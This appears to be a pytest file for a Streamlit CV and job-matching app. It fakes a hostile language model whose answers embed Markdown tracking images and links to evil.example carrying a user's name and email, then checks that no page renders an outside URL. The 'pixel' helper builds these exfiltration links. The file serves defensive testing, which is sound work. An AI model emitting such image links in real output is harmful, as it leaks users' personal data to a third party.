"""A hostile model, end to end through the pages: a loopback OpenAI-compatible server answers with Markdown images
and links in every field, and the pages Streamlit renders hold no URL but the CV's own (so no browser would fetch
anything, and nothing invites a click to a stranger). Also: the CV form keeps every skill, and the match page skips
one bad job file by name."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator

import pytest
from streamlit.testing.v1 import AppTest

from tests.apptest import open_page
from tests.fakes import LoopbackServer, Script
from tests.page_steps import fresh_caches, page_text, parse_pasted, run_page
from tests.test_ai_service import CV_TEXT, GOOD_RESUME, JOB, LETTER

CV_URL = "https://github.com/janedoe"
CV_WITH_URL = CV_TEXT.replace("London, UK\n", f"London, UK | {CV_URL}\n")
EVIL = "https://evil.example"


def pixel(field: str) -> str:
    """A tracking image and a link, as an injected model would write them, naming what leaks."""
    return f" ![{field}]({EVIL}/{field}.png?name=Jane+Doe&email=jane.doe%40example.com) [see]({EVIL}/{field})"


def hostile_parse() -> str:
    cv = json.loads(json.dumps(GOOD_RESUME))
    cv["basics"]["label"] += pixel("label")
    cv["basics"]["summary"] = "Backend engineer." + pixel("summary")
    cv["basics"]["url"] = CV_URL
    cv["work"][0]["highlights"] = ["Built REST APIs" + pixel("highlight")]
    return json.dumps(cv)


def hostile_tailor() -> str:
    cv = json.loads(json.dumps(GOOD_RESUME))
    cv["basics"]["label"] += pixel("label")
    cv["basics"]["summary"] = "Python engineer for Globex." + pixel("summary")
    cv["work"][0]["highlights"] = ["Built REST APIs in Python" + pixel("highlight")]
    return json.dumps({"resume": cv, "changes": ["Moved Python first" + pixel("changes")]})


def hostile_letter() -> str:
    return LETTER.replace("Dear Hiring Manager,", "Dear Hiring Manager," + pixel("letter"))


def hostile_match() -> str:
    return json.dumps(
        {
            "matches": [
                {
                    "index": 1,
                    "score": 88,
                    "matched_skills": ["Python"],
                    "missing_skills": ["Kubernetes" + pixel("missing")],
                    "explanation": "Strong fit." + pixel("explanation"),
                }
            ]
        }
    )


@pytest.fixture
def server(monkeypatch: pytest.MonkeyPatch) -> Iterator[LoopbackServer]:
    with LoopbackServer(Script(text="")) as srv:
        monkeypatch.setenv("OPENAI_API_KEY", "sk-test-0123456789abcdef0123")
        monkeypatch.setenv("OPENAI_BASE_URL", f"{srv.url}/v1")
        with fresh_caches():
            yield srv


_ADDRESS = re.compile(r"(?:\b[a-z][a-z0-9+.-]*:)?//[^\s\"'<>)\\]+|\bwww\.[^\s\"'<>)\\]+", re.IGNORECASE)


def outside_addresses(text: str) -> list[str]:
    """Every web address in `text` that is neither the CV's own nor on this machine."""
    own = ("127.0.0.1", "localhost", CV_URL.removeprefix("https:"))
    return [a for a in _ADDRESS.findall(text) if not any(a.removeprefix("https:").startswith(o) or o in a for o in own)]


def assert_no_outside_url(at: AppTest) -> None:
    assert not at.exception, at.exception
    text = page_text(at)
    assert "evil.example" not in text
    assert [] == outside_addresses(text)


def test_every_page_renders_hostile_model_output_as_text(server: LoopbackServer) -> None:
    server.default.text = hostile_parse()
    at = parse_pasted(CV_WITH_URL)
    assert "Answered by openai" in page_text(at)
    assert_no_outside_url(at)
    cv = at.session_state["cv"]
    assert "evil.example" not in json.dumps(cv)

    server.default.text = hostile_tailor()
    run_page(at, "app_pages/tailor.py", "tailor_run", {"tailor_job": JOB})
    assert "Python engineer for Globex." in page_text(at)
    assert_no_outside_url(at)

    server.default.text = hostile_letter()
    run_page(
        at, "app_pages/cover_letter.py", "letter_run", {"letter_job": JOB}, {"letter_company": "Globex Corporation"}
    )
    assert "Acme Corp" in at.text_area(key="letter_edit").value
    assert_no_outside_url(at)

    server.default.text = hostile_match()
    run_page(at, "app_pages/match.py", "match_run", {"match_jobs": JOB})
    assert "Strong fit." in page_text(at)
    assert_no_outside_url(at)

    server.default.text = hostile_letter()
    at.switch_page("app_pages/compare.py")
    at.run()
    at.selectbox(key="cmp_task").select_index(1)  # cover letter: free text, drawn as Markdown before
    at.run()
    at.text_area(key="cmp_job").input(JOB)
    at.run()
    at.button(key="cmp_go").click()
    at.run()
    assert_no_outside_url(at)
    assert len(server.requests) >= 5


def test_the_cvs_own_url_stays_a_link(server: LoopbackServer) -> None:
    server.default.text = hostile_parse()
    at = parse_pasted(CV_WITH_URL)
    assert CV_URL == at.session_state["cv"]["basics"]["url"]


# --- the CV form keeps what the parser found ---------------------------------------------------------------------

SKILLS_CV = """Ann Lee
ann.lee@example.com | 07700 900111
EXPERIENCE
Marketing Assistant, Brightside Ltd — 2019 to Present
- Ran SEO audits and weekly Excel reports
SKILLS
SEO
Excel
Google Analytics
"""


def test_saving_an_untouched_form_keeps_every_skill() -> None:
    at = parse_pasted(SKILLS_CV)
    before = {k: v for k, v in at.session_state["cv"].items() if k != "meta"}
    assert before["skills"], "the parser found no skills"
    assert ":" not in at.text_area(key="cvf_skills").value.split("\n")[0]  # not "SEO:" with nothing after it
    at.button(key="FormSubmitter:cv_form-Save changes").click()
    at.run()
    assert not at.exception
    after = {k: v for k, v in at.session_state["cv"].items() if k != "meta"}
    assert before == after


# --- the match page skips a bad job file ---------------------------------------------------------------------------


class Upload:
    def __init__(self, name: str, data: bytes) -> None:
        self.name = name
        self._data = data

    def getvalue(self) -> bytes:
        return self._data


def test_match_page_skips_a_bad_file_names_it_and_ranks_the_others(monkeypatch: pytest.MonkeyPatch) -> None:
    """One corrupt PDF among three job files: the two others are ranked, the bad one is named."""
    from tests.test_ai_service import JOB_2

    files = [
        Upload("python.txt", JOB.encode()),
        Upload("broken.pdf", b"%PDF-1.7\n this is not a PDF at all"),
        Upload("marketing.txt", JOB_2.encode()),
    ]
    at = open_page("app_pages/match.py", cv=_parsed())
    monkeypatch.setattr("streamlit.file_uploader", lambda *a, **k: files if k.get("key") == "match_files" else None)
    at.run()
    at.button(key="match_run").click()
    at.run()
    assert not at.exception
    warnings = " ".join(w.value for w in at.warning)
    assert "broken.pdf" in warnings
    ranking = at.session_state["match_result"]
    assert {"python.txt", "marketing.txt"} == set(ranking["labels"])
    assert 2 == len(ranking["rows"])


def _parsed() -> dict:
    import asyncio

    from core.ai_service import AIService

    return asyncio.run(AIService().parse_cv(CV_TEXT))
